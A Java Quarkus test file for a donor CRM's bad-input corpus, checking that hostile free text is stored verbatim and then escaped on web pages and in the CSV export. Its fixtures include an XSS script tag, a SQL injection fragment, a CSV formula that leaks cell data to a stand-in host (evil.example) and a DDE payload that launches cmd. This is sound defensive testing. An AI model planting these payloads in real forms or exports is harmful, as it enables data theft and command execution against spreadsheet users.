package org.donorcrm.donor.security;

import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;
import io.restassured.http.ContentType;
import jakarta.inject.Inject;
import org.donorcrm.testing.badinput.BadInputCorpus;
import org.donorcrm.testing.badinput.Hostile;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.junit.jupiter.api.Test;

import javax.sql.DataSource;
import java.net.URI;
import java.util.Map;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

/**
 * The bad-input corpus (docs/security.md, "Bad input"): every operation of this service that takes input,
 * sent its malformed and hostile variants with a token of an allowed role, answers 4xx problem+json, never
 * 2xx or 5xx, and stores and publishes nothing. A donor's registration is broken one field at a time from a
 * valid one, so that an invalid IBAN, e-mail address or birth date is refused for itself.
 * <p>
 * Hostile strings in free-text fields (a name, a city, notes) are not invalid: they are stored verbatim and
 * disarmed on the way out (escaped on the screens, a leading apostrophe before a formula in the CSV export).
 */
@QuarkusTest
class BadInputCorpusTest {

    static final String VALID_DONOR = """
            {"kind":"INDIVIDUAL","firstName":"Anna","lastName":"Jansen","street":"Keizersgracht","houseNumber":"1",
             "postcode":"1015CJ","city":"Amsterdam","country":"NL","email":"anna@example.org","phone":"+31201234567",
             "iban":"NL91ABNA0417164300","dateOfBirth":"1980-05-17","preferredLanguage":"nl","tags":["major-donor"]}""";

    @TestHTTPResource("/")
    URI baseUri;

    @Inject
    DataSource database;

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String kafka;

    @Test
    void everyHostileInputIsRefusedWithAProblemAndNothingIsStored() {
        BadInputCorpus.Report report = BadInputCorpus.of("donor-service", baseUri)
                .store(database, kafka)
                .validBody("POST /api/v1/donors", VALID_DONOR)
                .validBody("PUT /api/v1/donors/{id}", VALID_DONOR)
                .run();

        System.out.println("donor-service bad-input corpus: " + report);
        Map<String, Integer> cases = report.casesPerOperation();
        assertThat(cases).containsKeys("POST /api/v1/donors", "PUT /api/v1/donors/{id}", "GET /api/v1/donors",
                "GET /api/v1/donors/export.csv", "POST /api/v1/donors/{donorId}/consents",
                "POST /api/v1/donors/{donorId}/interactions", "POST /api/v1/donor-merges", "POST /api/v1/households",
                "GET /api/v1/donors/{donorId}/audit-trail");
    }

    @Test
    @TestSecurity(user = "fay", roles = {"fundraiser"})
    void hostileFreeTextIsStoredVerbatimAndDisarmedOnTheWayOut() {
        String lastName = "O'Neil " + Hostile.SQL_INJECTION + " bic-verbatim";
        String id = given().contentType(ContentType.JSON)
                .body(Map.of("kind", "INDIVIDUAL", "firstName", Hostile.SCRIPT, "lastName", lastName,
                        "city", Hostile.CSV_FORMULA, "notes", Hostile.CSV_FORMULA_DDE))
                .when().post("/api/v1/donors")
                .then().statusCode(201)
                .extract().path("id");

        given().when().get("/api/v1/donors/" + id).then().statusCode(200)
                .body("firstName", equalTo("<script>alert(1)</script>"))
                .body("lastName", equalTo("O'Neil ' OR 1=1 -- bic-verbatim"))
                .body("city", equalTo("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"))
                .body("notes", equalTo("@SUM(1+1)*cmd|' /C calc'!A0"));

        String page = given().when().get("/donors/" + id).then().statusCode(200).extract().asString();
        assertThat(page).contains("&lt;script&gt;alert(1)&lt;/script&gt;").doesNotContain("<script>alert(1)");

        String csv = given().queryParam("q", "bic-verbatim").when().get("/api/v1/donors/export.csv")
                .then().statusCode(200).extract().asString();
        // the formula cell starts with an apostrophe (then CSV-quoted, its quotes doubled)
        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",")
                .doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK");
    }
}
